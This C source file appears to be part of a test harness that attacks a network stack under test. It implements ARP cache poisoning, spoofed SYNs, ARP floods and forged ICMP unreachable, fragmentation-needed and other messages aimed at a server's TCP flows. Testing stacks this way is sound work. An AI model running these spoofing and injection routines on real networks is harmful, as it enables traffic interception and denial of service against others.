/* SPDX-License-Identifier: MIT */
/* Neighbours and routers that lie. */
#include "attacker.h"

static const uint8_t wrong_mac[6] = { 2, 0x66, 0, 0, 0, 0x66 };

/* Honest hosts, as from the attacker: each gets the server's packets for a
 * while if it is believed. A lie every millisecond. */
static bool claim(struct attack *a, uint16_t op, bool to_itself)
{
	const uint32_t whose[] = { a->client, a->gateway };

	do {
		for (uint32_t i = 0; i < ARRAY_SIZE(whose); i++)
			send_arp(a, op, wrong_mac, whose[i],
				 to_itself ? whose[i] : a->ix);
		sync_up(a);
		hear(a, 1);
	} while (more(a));
	return !*a->why;
}

static bool arp_gratuitous(struct attack *a)
{
	return claim(a, ARP_REQUEST, true);
}

static bool arp_gratuitous_reply(struct attack *a)
{
	return claim(a, ARP_REPLY, true);
}

static bool arp_unasked(struct attack *a)
{
	return claim(a, ARP_REPLY, false);
}

/* A question to the server, from the honest host's address. */
static bool arp_question(struct attack *a)
{
	return claim(a, ARP_REQUEST, false);
}

/* SYNs with the honest hosts' addresses, from a wrong one of Ethernet. */
static bool arp_by_syn(struct attack *a)
{
	uint8_t frame[FRAME_MAX];

	do {
		for (uint16_t i = 0; i < 200; i++) {
			struct seg s = { .src = i % 2 ? a->client : a->gateway,
					 .sport = (uint16_t)(1000 + i),
					 .seq = random32(a),
					 .flags = TCP_SYN,
					 .win = 65535 };
			uint32_t len = build_tcp(a, &s, frame);

			memcpy(frame + 6, wrong_mac, 6);
			put(a, frame, len);
		}
		sync_up(a);
	} while (more(a));
	return !*a->why;
}

/* The client's address in the lower bits, so that they are kept in the same
 * places; then anything at all, also what is not on the link. */
static bool arp_flood(struct attack *a)
{
	do {
		for (uint32_t i = 0; i < 4000; i++) {
			uint32_t ip =
				0x0a510000 | ((a->client + i % 16) & 1023);

			ip += (4 + i / 16 % 60) << 10;
			send_arp(a, ARP_REQUEST, wrong_mac, ip, a->ix);
			send_arp(a, i % 2 ? ARP_REQUEST : ARP_REPLY, wrong_mac,
				 random32(a), i % 4 ? a->ix : random32(a));
		}
	} while (more(a));
	return !*a->why;
}

bool never_answered(struct attack *a, uint8_t echo)
{
	do {
		for (uint32_t i = 0; i < 3000; i++)
			send_icmp(a, 0x0a510400 + random32(a) % 0xf000, echo, 0,
				  i, "who?", 4);
	} while (more(a));
	return !*a->why;
}

static bool arp_never_answered(struct attack *a)
{
	return never_answered(a, ICMP_ECHO);
}

enum { QUOTE_MAX = IPV6_LEN + TCP_LEN };

/* A quote of a segment of the server: to the client's @port, from @seq on. */
static uint32_t quote(const struct attack *a, uint16_t port, uint32_t seq,
		      uint8_t buf[QUOTE_MAX])
{
	const uint32_t to = a->flows[port].ip;
	const uint32_t head = head_len(a) - ETH_LEN;
	struct tcp_hdr *t = (void *)(buf + head);

	if (a->v6)
		*(struct ipv6_hdr *)buf = (struct ipv6_hdr){
			.ver_class_flow = be32(6u << 28),
			.len = be16(1460),
			.next = IP_PROTO_TCP,
			.hops = 3,
			.src = addr6(a->ix),
			.dst = addr6(to),
		};
	else
		*(struct ipv4_hdr *)buf =
			(struct ipv4_hdr){ .ver_ihl = 0x45,
					   .len = be16(1500),
					   .ttl = 3,
					   .proto = IP_PROTO_TCP,
					   .src = be32(a->ix),
					   .dst = be32(to) };
	*t = (struct tcp_hdr){ .sport = be16(a->port),
			       .dport = be16(port),
			       .seq = be32(seq) };
	return head + TCP_LEN;
}

void quote_all(struct attack *a, uint8_t type, uint8_t code, uint32_t rest)
{
	uint8_t buf[QUOTE_MAX];

	for (int i = 0; i < NR_CLIENTS; i++) {
		uint16_t port = a->honest->port[i];
		uint32_t seq = a->flows[port].to_client, n;
		const uint32_t at[] = {
			seq,	   seq - 1,    seq - 100,
			seq + 100, seq - 1448, seq + (1u << 31)
		};

		for (uint32_t k = 0; k < ARRAY_SIZE(at); k++) {
			n = quote(a, port, at[k], buf);
			send_icmp(a, k % 2 ? a->client : a->gateway, type, code,
				  rest, buf, k == 5 ? n - 12 : n);
		}
	}
	hear(a, 0);
}

static bool icmp_unreachable_all(struct attack *a)
{
	do {
		for (uint8_t code = 0; code < 17; code++)
			if (code != ICMP_UNREACH_NEEDFRAG)
				quote_all(a, ICMP_UNREACHABLE, code, 0);
	} while (more(a));
	return !*a->why;
}

static bool icmp_frag_needed(struct attack *a)
{
	static const uint32_t mtus[] = { 0,   1,   67,	 68,   69,   296,
					 552, 576, 1499, 1500, 65535 };

	do {
		for (uint32_t i = 0; i < ARRAY_SIZE(mtus); i++)
			quote_all(a, ICMP_UNREACHABLE, ICMP_UNREACH_NEEDFRAG,
				  mtus[i]);
	} while (more(a));
	return !*a->why;
}

/* Redirects, source quench, time exceeded, parameter problem, all types. */
static bool icmp_others(struct attack *a)
{
	do {
		for (uint32_t type = 0; type < 256; type++)
			if (type != ICMP_UNREACHABLE)
				quote_all(a, (uint8_t)type, (uint8_t)(type % 5),
					  be32(a->ix - 1).raw);
	} while (more(a));
	return !*a->why;
}

const struct attack_kind attacks_lies[] = {
	{ "arp_gratuitous", arp_gratuitous, ON_ECHO },
	{ "arp_gratuitous_reply", arp_gratuitous_reply, ON_ECHO },
	{ "arp_unasked", arp_unasked, ON_ECHO },
	{ "arp_question", arp_question, ON_ECHO },
	{ "arp_by_syn", arp_by_syn, ON_ECHO },
	{ "arp_flood", arp_flood, ON_ECHO },
	{ "arp_never_answered", arp_never_answered, ON_ECHO },
	{ "icmp_unreachable", icmp_unreachable_all, ON_ECHO },
	{ "icmp_frag_needed", icmp_frag_needed, ON_ECHO },
	{ "icmp_others", icmp_others, ON_ECHO },
	{ 0 },
};
